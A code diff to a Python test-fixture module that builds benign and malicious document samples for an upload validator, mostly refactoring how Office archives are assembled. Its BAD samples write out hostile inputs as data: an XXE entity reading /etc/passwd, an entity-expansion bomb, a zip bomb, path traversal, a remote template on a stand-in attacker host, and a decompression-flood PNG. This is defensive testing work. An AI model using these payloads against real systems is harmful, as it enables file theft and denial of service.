@@ -31,14 +31,16 @@ def archive(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLAT
     return out.getvalue()
 
 
-def office(kind: str = "docx", types: str = "", rels: str = "", **parts: bytes | str) -> bytes:
+def office(kind: str = "docx", types: str = "", rels: str = "", parts: dict[str, bytes | str] | None = None) -> bytes:
     main = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet"}[kind]
-    return archive({
-        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{OOXML}.{main}.main+xml"/>{types}</Types>',
-        "_rels/.rels": f'<Relationships xmlns="{RELS}">{rels}</Relationships>',
-        "word/document.xml": "<document><body/></document>",
-        **parts,
-    })
+    return archive(
+        {
+            "[Content_Types].xml": f"<Types><Override ContentType='{OOXML}.{main}.main+xml'/>{types}</Types>",
+            "_rels/.rels": f'<Relationships xmlns="{RELS}">{rels}</Relationships>',
+            "word/document.xml": "<document><body/></document>",
+            **(parts or {}),
+        }
+    )
 
 
 def relation(kind: str, target: str, mode: str = "External") -> str:
@@ -46,12 +48,14 @@ def relation(kind: str, target: str, mode: str = "External") -> str:
 
 
 def odt(manifest: str = "", content: str = "<content/>", **parts: bytes | str) -> bytes:
-    return archive({
-        "mimetype": "application/vnd.oasis.opendocument.text",
-        "META-INF/manifest.xml": f"<manifest>{manifest}</manifest>",
-        "content.xml": content,
-        **parts,
-    })
+    return archive(
+        {
+            "mimetype": "application/vnd.oasis.opendocument.text",
+            "META-INF/manifest.xml": f"<manifest>{manifest}</manifest>",
+            "content.xml": content,
+            **parts,
+        }
+    )
 
 
 def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **save: object) -> bytes:
@@ -62,11 +66,14 @@ def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RG
 
 def flood() -> bytes:
     """A PNG of a few bytes that says it is 60,000 × 60,000."""
+
     def chunk(name: bytes, data: bytes) -> bytes:
         return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")
 
     head = (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
+    )
 
 
 def _script(document: pikepdf.Pdf) -> None:
@@ -88,7 +95,9 @@ def _page_action(document: pikepdf.Pdf) -> None:
 def _link(uri: str) -> Callable[[pikepdf.Pdf], None]:
     def change(document: pikepdf.Pdf) -> None:
         note = pikepdf.Dictionary(
-            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=[0, 0, 9, 9],
             A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=uri),
         )
         document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([note]))
@@ -113,7 +122,14 @@ GOOD: dict[str, tuple[str, bytes]] = {
     "a PDF with a web link": ("b.pdf", pdf(_link("https://tayninh.gov.vn"))),
     "a PDF with compressed objects": ("c.PDF", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
     "a Word file": ("Dự thảo.docx", office()),
-    "a Word file with a web link": ("d.docx", office(**{"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{relation("hyperlink", "https://tayninh.gov.vn")}</Relationships>'})),
+    "a Word file with a web link": (
+        "d.docx",
+        office(
+            parts={
+                "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{relation("hyperlink", "https://tayninh.gov.vn")}</Relationships>'
+            }
+        ),
+    ),
     "an Excel file": ("Số liệu.xlsx", office("xlsx")),
     "an OpenDocument text": ("e.odt", odt()),
     "a PNG": ("Ảnh.png", picture()),
@@ -160,20 +176,39 @@ BAD: dict[str, tuple[str, bytes]] = {
     "Excel called Word": ("a.docx", office("xlsx")),
     "OpenDocument called Word": ("a.docx", odt()),
     "a Word file with macros": ("a.docm", office()),
-    "a Word file with a macro part": ("a.docx", office(**{"word/vbaProject.bin": b"x"})),
-    "a Word file whose type says macros": ("a.docx", office(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')),
-    "a Word file with a template elsewhere": ("a.docx", office(**{"word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELS}">{relation("attachedTemplate", "http://evil.example/t.dotm")}</Relationships>'})),
+    "a Word file with a macro part": ("a.docx", office(parts={"word/vbaProject.bin": b"x"})),
+    "a Word file whose type says macros": (
+        "a.docx",
+        office(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
+    ),
+    "a Word file with a template elsewhere": (
+        "a.docx",
+        office(
+            parts={
+                "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELS}">{relation("attachedTemplate", "http://evil.example/t.dotm")}</Relationships>'
+            }
+        ),
+    ),
     "a Word file with a picture elsewhere": ("a.docx", office(rels=relation("image", "\\\\evil\\share\\x.png"))),
     "a Word file with a script link": ("a.docx", office(rels=relation("hyperlink", "javascript:alert(1)"))),
-    "a Word file with an embedded object": ("a.docx", office(**{"word/embeddings/oleObject1.bin": b"x"})),
-    "an Excel file with outside links": ("a.xlsx", office("xlsx", **{"xl/externalLinks/externalLink1.xml": "<x/>"})),
-    "an Excel file with an ActiveX part": ("a.xlsx", office("xlsx", **{"xl/activeX/activeX1.bin": b"x"})),
-    "a Word file with outside entities": ("a.docx", office(**{"word/document.xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"})),
-    "a Word file with a laugh bomb": ("a.docx", office(**{"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><x>&b;</x>"})),
-    "a Word file with broken XML": ("a.docx", office(**{"word/document.xml": "<a><b></a>"})),
-    "a zip bomb": ("a.docx", office(**{"word/media/image1.png": b"\0" * 30_000_000})),
-    "2,001 parts": ("a.docx", office(**{f"word/{n}.xml": "" for n in range(2001)})),
-    "a part outside the archive": ("a.docx", office(**{"../../evil.xml": "<x/>"})),
+    "a Word file with an embedded object": ("a.docx", office(parts={"word/embeddings/oleObject1.bin": b"x"})),
+    "an Excel file with outside links": (
+        "a.xlsx",
+        office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<x/>"}),
+    ),
+    "an Excel file with an ActiveX part": ("a.xlsx", office("xlsx", parts={"xl/activeX/activeX1.bin": b"x"})),
+    "a Word file with outside entities": (
+        "a.docx",
+        office(parts={"word/document.xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"}),
+    ),
+    "a Word file with a laugh bomb": (
+        "a.docx",
+        office(parts={"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><x>&b;</x>"}),
+    ),
+    "a Word file with broken XML": ("a.docx", office(parts={"word/document.xml": "<a><b></a>"})),
+    "a zip bomb": ("a.docx", office(parts={"word/media/image1.png": b"\0" * 30_000_000})),
+    "2,001 parts": ("a.docx", office(parts={f"word/{n}.xml": "" for n in range(2001)})),
+    "a part outside the archive": ("a.docx", office(parts={"../../evil.xml": "<x/>"})),
     "half an archive": ("a.docx", office()[:300]),
     "an OpenDocument with scripts": ("a.odt", odt(**{"Basic/Standard/script-lb.xml": "<x/>"})),
     "a locked OpenDocument": ("a.odt", odt(manifest="<encryption-data/>")),
